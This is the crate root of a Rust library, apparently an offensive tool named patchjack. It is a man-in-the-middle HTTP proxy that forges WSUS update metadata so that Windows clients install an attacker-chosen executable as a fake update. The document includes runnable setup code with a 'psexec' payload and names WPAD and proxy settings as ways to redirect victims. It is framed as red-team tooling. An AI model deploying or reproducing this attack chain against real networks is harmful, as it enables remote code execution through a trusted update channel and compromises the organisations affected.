#![deny(missing_docs)]

//! # patchjack
//!
//! `patchjack` is a man-in-the-middle HTTP proxy that forges Windows Server
//! Update Services metadata, built for authorized red-team engagements
//! against networks whose update traffic travels over plain HTTP.
//!
//! Pointed at by a client (via WPAD, netmon tricks or an explicit proxy
//! setting), it:
//!
//! - relays every exchange to the real server, streaming what it does not
//!   care about
//! - rewrites the WSUS SOAP session so the server appears to offer one more
//!   update, whose install command is an executable you chose
//! - serves that executable itself when the client asks for it
//!
//! ## Running the proxy
//!
//! ```rust,no_run
//! use std::sync::Arc;
//! use patchjack::{
//!   FakeUpdate, ModifierChain, PayloadRegistry, ProxyServer, TemplateSet, WsusXmlModifier,
//! };
//!
//! #[tokio::main]
//! async fn main() -> Result<(), Box<dyn std::error::Error>> {
//!   let registry = PayloadRegistry::load("payloads/payloads.ini")?;
//!   let spec = registry.payload("psexec")?;
//!   let update = FakeUpdate::new("payloads", &spec)?;
//!   let templates = TemplateSet::load("templates")?;
//!   let wsus = WsusXmlModifier::new(update, templates)?;
//!   let chain = ModifierChain::new(vec![Arc::new(wsus)]);
//!   ProxyServer::new(chain).run(("0.0.0.0", 8080)).await?;
//!   Ok(())
//! }
//! ```
//!
//! ## Writing a modifier
//!
//! The WSUS rewriter is one [`Modifier`] on a [`ModifierChain`]; the proxy
//! itself is protocol-agnostic. A modifier claims the sides it wants, and
//! only claimed bodies are buffered:
//!
//! ```rust
//! use patchjack::{Body, Modifier, ProxyRequest, Result};
//!
//! struct TagInjector;
//!
//! impl Modifier for TagInjector {
//!   fn will_modify_response(&self, request: &ProxyRequest) -> bool {
//!     request.uri().path().ends_with(".html")
//!   }
//!   fn modify_response(&self, request: &mut ProxyRequest) -> Result<()> {
//!     let page = match request.response_body() {
//!       Some(body) => String::from_utf8_lossy(body).replace("</body>", "<!-- here --></body>"),
//!       None => return Ok(()),
//!     };
//!     *request.response_body_mut() = Some(Body::from(page));
//!     Ok(())
//!   }
//! }
//! ```
//!
//! ## Scope
//!
//! The proxy speaks HTTP/1.x over plain TCP: no TLS interception, no
//! `CONNECT` tunneling, one upstream connection per request. WSUS
//! deployments answering on 8530/tcp are exactly that.

mod body;
mod config;
mod connector;
mod errors;
mod handler;
mod modifier;
mod request;
mod response;
mod server;
mod socket;
mod template;
mod update;
mod wsus;

pub use body::Body;
pub use config::{PayloadRegistry, PayloadSpec};
pub use connector::{Connector, ConnectorBuilder};
pub use errors::{Error, Result};
pub use handler::{rewrite_content_length, ProxyRequestHandler};
pub use http::header;
pub use http::uri;
pub use http::Method;
pub use http::{StatusCode, Version};
pub use modifier::{Modifier, ModifierChain};
pub use request::{ProxyRequest, RequestState};
pub use server::ProxyServer;
pub use socket::Socket;
pub use template::{xml_escape, Template, TemplateSet};
pub use update::FakeUpdate;
pub use wsus::WsusXmlModifier;

pub(crate) const CR_LF: &[u8] = &[13, 10];
pub(crate) const SPACE: &[u8] = &[32];
pub(crate) const COLON_SPACE: &[u8] = &[58, 32];
